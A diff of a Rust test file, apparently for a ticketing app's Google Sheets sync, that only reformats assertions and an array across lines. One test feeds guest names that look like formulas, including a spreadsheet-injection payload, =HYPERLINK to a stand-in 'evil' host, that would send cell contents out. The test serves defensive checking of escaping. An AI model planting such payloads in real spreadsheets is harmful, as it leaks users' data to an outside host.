@@ -59,7 +59,12 @@ fn a_token_that_ends_in_mid_flush() {
         story.news();
         story.google.weather(Kind::Sheets, skip, 1, Fault::TokensEnd);
         let status = story.flush();
-        assert_eq!(status.state, SheetsState::UpToDate, "one refresh mends it: {status:?}{}", story.account());
+        assert_eq!(
+            status.state,
+            SheetsState::UpToDate,
+            "one refresh mends it: {status:?}{}",
+            story.account()
+        );
         story.settle();
     }
 }
@@ -205,7 +210,10 @@ fn a_clock_that_is_wrong() {
         let status = story.flush();
         // The server's own Date may mend it; then nobody has to be told.
         if status.state != SheetsState::UpToDate {
-            assert_eq!((status.state, status.error.unwrap().code.as_str()), (SheetsState::NeedsPerson, "clock"));
+            assert_eq!(
+                (status.state, status.error.unwrap().code.as_str()),
+                (SheetsState::NeedsPerson, "clock")
+            );
         }
         story.google.set_ahead(0);
         story.settle();
@@ -337,7 +345,8 @@ fn ten_million_cells() {
 #[test]
 fn names_that_look_like_formulas() {
     let story = Story::begun();
-    let names = ["=HYPERLINK(\"http://evil/?\"&A1)", "+4912345", "-1+1", "@SUM(A1)", "0123", "TRUE", "1-2", "'x"];
+    let names =
+        ["=HYPERLINK(\"http://evil/?\"&A1)", "+4912345", "-1+1", "@SUM(A1)", "0123", "TRUE", "1-2", "'x"];
     let tickets = story.sell(&names);
     story.settle();
     let tab = story.guests();
